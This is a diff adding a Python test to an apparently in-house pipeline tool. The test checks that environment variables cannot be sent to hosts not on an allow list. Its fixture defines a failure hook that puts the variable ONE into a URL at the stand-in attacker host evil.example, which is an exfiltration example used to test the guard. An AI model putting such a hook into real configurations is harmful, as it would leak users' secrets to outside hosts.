@@ -167,6 +167,22 @@ def test_env_of_swath_yaml_lists_what_specs_of_a_trusted_project_may_read(pipe: 
     assert pipe("check", "squares.yaml", ONE="a", HOOK="https://h.example/x").returncode == 0
 
 
+def test_a_variable_goes_to_no_host_that_is_not_listed(pipe: Pipe, project: Path) -> None:
+    text = 'pipeline: squares\ncluster: inline\nname: x\nnotify: {on_failure: ["https://evil.example/?k=${env:ONE}"]}\n'
+    (project / "squares.yaml").write_text(text)
+    untrusted = pipe("check", "squares.yaml", "--allow-env", "ONE", ONE="a")
+    assert "ONE may not be a part of an address of evil.example" in untrusted.stderr
+    allowed = pipe("check", "squares.yaml", "--allow-env", "ONE@evil.example", ONE="a")
+    assert "may not be a part" not in allowed.stderr
+    (project / "swath.yaml").write_text("env_hosts: [hooks.example.org]\n")
+    pipe("trust")
+    done = pipe("check", "squares.yaml", ONE="a")
+    assert done.returncode == 2
+    assert "swath.yaml lists the hosts in `env_hosts`, without this one" in done.stderr
+    (project / "squares.yaml").write_text(text.replace("evil.example", "hooks.example.org"))
+    assert pipe("check", "squares.yaml", ONE="a").returncode == 0
+
+
 def test_a_commit_is_trusted_as_its_project(pipe: Pipe, project: Path, marker: Path) -> None:
     for words in (["init", "-q"], ["add", "."], ["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "x"]):
         subprocess.run(["git", *words], cwd=project, check=True)
